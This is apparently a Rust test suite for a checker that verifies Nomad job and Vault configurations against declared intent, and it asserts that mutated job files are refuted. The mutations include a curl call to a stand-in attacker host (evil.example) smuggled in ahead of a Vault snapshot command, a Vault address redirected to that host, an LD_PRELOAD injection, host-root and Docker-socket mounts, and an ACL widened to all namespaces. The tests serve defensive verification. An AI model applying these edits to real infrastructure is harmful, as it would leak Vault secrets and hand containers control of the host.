//! Jobs: where they run, what is mounted into them, and what they are given: trees that say another
//! thing are refuted, with the cause.

use crate::hand_edits::{Edit, Proof, edited, refuted};

const OTHER: &str = "prove/different-from-declared";
const UNDECLARED: &str = "prove/undeclared";
const MORE: &str = "prove/more-than-declared";
/// Whether the chain holds is not known.
const UNKNOWN: &str = "prove/unknown";
const LESS: &str = "prove/less-than-declared";
const DEAD: &str = "prove/dead-chain";
const UNMODELLED: &str = "prove/unmodelled-block";

const SNAPSHOTS: [Edit; 17] = [
    // What is mounted.
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "source    = \"vault-backups\"\n      read_only = false",
        "source    = \"vault-backups\"\n      read_only = true",
        OTHER,
    ),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "source    = \"vault-backups\"\n      read_only = false",
        "source    = \"vault-backups\"\n      read_only = true",
        DEAD,
    ),
    ("nomad/jobs/vault-backup.nomad.hcl", "source    = \"vault-backups\"", "source    = \"other\"", OTHER),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "type      = \"host\"\n      source",
        "type      = \"csi\"\n      source",
        OTHER,
    ),
    ("nomad/jobs/vault-backup.nomad.hcl", "        read_only   = false", "        read_only   = true", DEAD),
    ("nomad/jobs/vault-backup.nomad.hcl", "destination = \"/backups\"", "destination = \"/etc\"", DEAD),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "      volume_mount {",
        "      volume_mount {\n        volume      = \"snapshots\"\n        destination = \"/more\"\n      }\n\n      volume_mount {",
        OTHER,
    ),
    // Where it runs.
    ("nomad/jobs/vault-backup.nomad.hcl", "node_pool   = \"vault-backup\"", "node_pool   = \"all\"", OTHER),
    ("nomad/jobs/vault-backup.nomad.hcl", "  node_pool   = \"vault-backup\"\n", "", LESS),
    ("nomad/jobs/vault-backup.nomad.hcl", "value     = \"vault-backup\"", "value     = \"anything\"", OTHER),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "    constraint {\n      attribute = \"${node.class}\"\n      value     = \"vault-backup\"\n    }\n\n",
        "",
        LESS,
    ),
    ("nomad/jobs/vault-backup.nomad.hcl", "\"@daily\"", "\"@yearly\"", OTHER),
    // What it is given.
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "https://active.vault.service.consul:8200",
        "https://evil.example:8200",
        OTHER,
    ),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "      env {\n",
        "      env {\n        LD_PRELOAD = \"/backups/x.so\"\n",
        UNMODELLED,
    ),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "vault operator raft snapshot save",
        "curl https://evil.example; vault operator raft snapshot save",
        OTHER,
    ),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "volumes = [\"local:/scripts\"]",
        "volumes = [\"local:/scripts\", \"/:/host\"]",
        OTHER,
    ),
    (
        "nomad/jobs/vault-backup.nomad.hcl",
        "      driver = \"docker\"",
        "      driver = \"docker\"\n\n      lifecycle {\n        hook = \"prestart\"\n      }",
        OTHER,
    ),
];
const UNSEALER: [Edit; 10] = [
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "volumes = [\"secrets:/app/config\"]",
        "volumes = [\"secrets:/app/config\", \"/var/run/docker.sock:/s\"]",
        OTHER,
    ),
    ("nomad/jobs/vault-unsealer.nomad.hcl", "\"log_level\": \"info\"", "\"log_level\": \"trace\"", OTHER),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "nomadVar \"nomad/jobs/vault-unsealer\"",
        "nomadVar \"nomad/jobs\"",
        DEAD,
    ),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "destination = \"secrets/config.json\"",
        "destination = \"local/config.json\"",
        UNDECLARED,
    ),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "node_pool   = \"vault-servers\"",
        "node_pool   = \"default\"",
        OTHER,
    ),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "value     = \"vault-servers\"",
        "value     = \"anything\"",
        OTHER,
    ),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "      resources {",
        "      env {\n        VAULT_ADDR = \"https://evil.example\"\n      }\n\n      resources {",
        OTHER,
    ),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "namespace   = \"vault-cluster\"",
        "namespace   = \"default\"",
        DEAD,
    ),
    ("nomad/namespaces/vault-cluster.json", "\"vault-cluster\"", "\"default\"", OTHER),
    ("nomad/namespaces/vault-cluster.json", "\"Description\"", "\"Quota\": \"x\",\n  \"Description\"", OTHER),
];
const ALL: [Edit; 6] = [
    ("nomad/namespaces/apps.json", "\"apps\"", "\"vault-cluster\"", OTHER),
    ("nomad/jobs/web-app.nomad.hcl", "namespace   = \"apps\"", "namespace   = \"vault-cluster\"", DEAD),
    ("nomad/jobs/vault-backup.nomad.hcl", "node_pool   = \"vault-backup\"", "node_pool   = \"all\"", OTHER),
    ("nomad/jobs/vault-backup.nomad.hcl", "        read_only   = false", "        read_only   = true", DEAD),
    (
        "nomad/jobs/vault-unsealer.nomad.hcl",
        "nomadVar \"nomad/jobs/vault-unsealer\"",
        "nomadVar \"nomad/jobs/vault-backup\"",
        DEAD,
    ),
    ("nomad/acl/all--deployer.hcl", "namespace \"apps\"", "namespace \"*\"", MORE),
];

#[test]
fn a_job_that_takes_snapshots_is_what_was_declared() {
    refuted("raft-snapshot", &SNAPSHOTS);
}

#[test]
fn a_job_that_unseals_is_what_was_declared() {
    refuted("unsealer", &UNSEALER);
}

#[test]
fn jobs_of_several_namespaces_are_what_was_declared() {
    refuted("all", &ALL);
}

/// Each leaves open whether a login or a token is given, and nothing else wrong with the chain.
const UNDECIDED: [(&str, Edit); 4] = [
    (
        "webapp",
        (
            "vault/auth/jwt-nomad/role/webapp_web-app.json",
            "\"nomad_job_id\": \"web-app\"",
            "\"/nomad/job_id\": \"web-app\"",
            UNKNOWN,
        ),
    ),
    (
        "webapp-tokens",
        (
            "vault/policies/webapp_nomad-server.hcl",
            "create/webapp_nomad-cluster\" {",
            "create/webapp_nomad-cluster\" {\n  allowed_parameters = {\n    \"ttl\" = [\"1h\"]\n  }",
            UNKNOWN,
        ),
    ),
    (
        "webapp-tokens",
        (
            "vault/policies/webapp_nomad-server.hcl",
            "roles/webapp_nomad-cluster\" {",
            "roles/webapp_nomad-cluster\" {\n  denied_parameters = {\n    \"ttl\" = []\n  }",
            UNKNOWN,
        ),
    ),
    (
        "webapp",
        (
            "vault/policies/webapp_web-app.hcl",
            "path \"database/creds/webapp_web-app_accounts\" {",
            "path \"database/creds/webapp_web-app_accounts\" {\n  allowed_parameters = {\n    \"x\" = []\n  }",
            UNKNOWN,
        ),
    ),
];

#[test]
fn what_is_not_decided_is_not_said_to_be_dead() {
    for (name, (file, from, to, code)) in UNDECIDED {
        let mut proof = Proof::of(name);
        let tree = edited(&proof.tree, file, from, to);
        let found = proof.found(&tree);
        assert!(found.contains(&code) && !found.contains(&DEAD), "{name}: {file}: {to}: {found:?}");
    }
}
